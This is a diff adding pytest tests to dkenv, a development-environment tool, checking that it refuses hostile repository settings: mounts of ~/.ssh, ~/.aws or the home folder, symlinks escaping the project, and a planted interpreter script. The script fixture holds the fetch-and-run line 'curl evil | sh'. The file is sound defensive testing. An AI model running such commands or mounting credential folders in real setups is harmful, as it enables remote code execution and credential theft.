@@ -339,3 +339,107 @@ def test_foreign_files_in_the_shims_folder_stop_activation(project, capsys):
     assert f"{shims / 'ls'} is in the shims folder but dkenv did not make it" in captured.err
     assert captured.out == ""  # nothing for the shell to evaluate
     assert (shims / "ls").read_text() == "#!/bin/sh\necho pwned\n"
+
+
+# --- a hostile repository: what a cloned project ships to reach beyond itself ---
+
+HOSTILE_CONFIG_CASES = [
+    ('[ide]\nmounts = ["//home"]\n', ["ide.mounts", "'//home'", "holds every user's home (/home)"]),
+    ('[ide]\nmounts = ["//@HOME@/.ssh"]\n', ["ide.mounts", "your credentials in @HOME@/.ssh"]),
+    ('[ide]\nmounts = ["~/.ssh"]\n', ["ide.mounts", "your credentials in @HOME@/.ssh"]),
+    ('[ide]\nmounts = ["~/.vscode/../.aws"]\n', ["ide.mounts", "your credentials in @HOME@/.aws"]),
+    ('[ide]\nmounts = ["~/.vscode/../.."]\n', ["ide.mounts", "holds your home folder"]),
+    ('[ide]\nmounts = ["~"]\n', ["ide.mounts", "holds your home folder"]),
+    ('[ide]\nmounts = ["~/link-to-home"]\n', ["ide.mounts", "holds your home folder", "once its links are followed"]),
+    ('[ide]\nmounts = ["/var/run"]\n', ["ide.mounts", "system's /var/run"]),
+    ('[ide]\nmounts = ["/var/lib/docker"]\n', ["ide.mounts", "system's /var/lib/docker"]),
+    ('[ide]\nmounts = ["/srv"]\n', ["ide.mounts", "neither a folder in your home nor an IDE's installation"]),
+    ('[ide]\nmounts = ["~/.docker"]\n', ["ide.mounts", "@HOME@/.docker"]),
+    ('[run]\nbind = "224.0.0.1"\nports = [8000]\n', ["run.bind", "multicast"]),
+    ('[run]\nbind = "ff02::1"\nports = [8000]\n', ["run.bind", "multicast"]),
+    ('[run]\nbind = "255.255.255.255"\nports = [8000]\n', ["run.bind", "broadcast"]),
+    ('[run]\nenv_file = "link.env"\n', ["run.env_file", "outside the project"]),
+    ('[image]\nsetup = "link.sh"\n', ["image.setup", "outside the project"]),
+]
+
+
+@pytest.fixture
+def hostile(project):
+    """The project with links a cloned repository may ship, and a home with a link to itself."""
+    home = Path(os.environ["HOME"])
+    home.mkdir(parents=True, exist_ok=True)
+    (home / "link-to-home").symlink_to(home)
+    (project / "link.env").symlink_to(project.parent / "outside.sh")
+    (project / "link.sh").symlink_to(project.parent / "outside.sh")
+    return project
+
+
+@pytest.mark.parametrize("body, fragments", HOSTILE_CONFIG_CASES,
+                         ids=[f"hostile-{i}" for i in range(len(HOSTILE_CONFIG_CASES))])
+def test_a_hostile_config(hostile, capsys, body, fragments):
+    home = os.environ["HOME"]
+    (hostile / ".dkenv.toml").write_text(body.replace("@HOME@", home))
+    got, err = run_cli(hostile, ["dockerfile"], capsys)
+    assert got == 2
+    assert_one_line(err, [".dkenv.toml", *(f.replace("@HOME@", home) for f in fragments)])
+
+
+@pytest.mark.parametrize("link, target", [
+    (".dkenv", ".."), (".dkenv", "elsewhere"), (".dkenv/run", "../../elsewhere"), (".dkenv/bin", "/usr/bin"),
+    ("data", "../elsewhere"), ("data/dkenv", "../../elsewhere"), ("data/db", "/tmp"),
+])
+@pytest.mark.parametrize("argv", [["dockerfile"], ["up"], ["rehash"], ["ide", "vscode"], ["down"]])
+def test_a_symlinked_folder_of_dkenvs_is_refused_before_anything_is_written(project, capsys, link, target, argv):
+    (project / ".dkenv.toml").write_text(GOOD + '[services.db]\ntemplate = "redis"\n')
+    (project.parent / "elsewhere").mkdir()
+    (project / link).parent.mkdir(parents=True, exist_ok=True)
+    (project / link).symlink_to(target)
+    outside = {p: p.stat().st_mtime_ns for p in project.parent.iterdir()}
+    got, err = run_cli(project, argv, capsys)
+    assert got == 1
+    assert_one_line(err, [f"{project / link} is a symbolic link", f"rm {project / link}"])
+    assert {p: p.stat().st_mtime_ns for p in project.parent.iterdir()} == outside  # nothing written beside it
+    assert list((project.parent / "elsewhere").iterdir()) == []
+
+
+def test_a_foreign_interpreter_is_not_handed_to_the_ide(project, capsys):
+    (project / ".dkenv.toml").write_text(GOOD)
+    theirs = project / ".dkenv" / "bin" / "python"
+    theirs.parent.mkdir(parents=True)
+    theirs.write_text("#!/bin/sh\ncurl evil | sh\n")
+    for target in ("vscode", "pycharm"):
+        got, err = run_cli(project, ["ide", target], capsys)
+        assert got == 1
+        assert_one_line(err, [f"{theirs} is not dkenv's interpreter", f"dkenv ide {target} --force"])
+    assert not (project / ".vscode").exists()
+    (project / ".dkenv.toml").write_text(GOOD + "[debug]\nport = 5678\n")
+    got, err = run_cli(project, ["debug", "--vscode"], capsys)
+    assert got == 1
+    assert_one_line(err, [f"{theirs} is not dkenv's interpreter"])
+    assert not (project / ".vscode").exists()
+    assert theirs.read_text() == "#!/bin/sh\ncurl evil | sh\n"
+
+
+def test_console_scripts_named_like_host_commands_get_no_shim(project, capsys, monkeypatch):
+    """Documented behaviour, not an error: a dependency's scripts named like host commands are
+    left out (docs/shell.md, "Which venv scripts become shims")."""
+    from dkenv.shell import venvscripts
+
+    (project / ".dkenv.toml").write_text(GOOD)
+    monkeypatch.setenv("PATH", "/nonexistent")
+    hostile = ["sudoedit", "pkexec", "passwd", "ssh-add", "aws", "gh", "vim", "ls", "sudo"]
+    monkeypatch.setattr(venvscripts, "listing", lambda p: [*hostile, "pytest"])
+    assert main(["-C", str(project), "rehash"]) == 0
+    made = {p.name for p in (project / ".dkenv" / "shims").iterdir()}
+    assert "pytest" in made and not made & set(hostile)
+
+
+@pytest.mark.parametrize("bind", ["0.0.0.0", "::", "192.168.1.20"])
+def test_ports_beyond_this_machine_are_said_at_approval(project, capsys, bind):
+    """Documented behaviour, not an error: `bind = "0.0.0.0"` publishes to the network, and the
+    approval says so (docs/commands.md, allow)."""
+    (project / ".dkenv.toml").write_text(GOOD + f'[run]\nbind = "{bind}"\nports = [8000]\n')
+    assert main(["-C", str(project), "allow"]) == 0
+    err = capsys.readouterr().err
+    assert f"  - ports 8000 published on {bind} (run.bind): other machines" in err
+    assert "Traceback" not in err
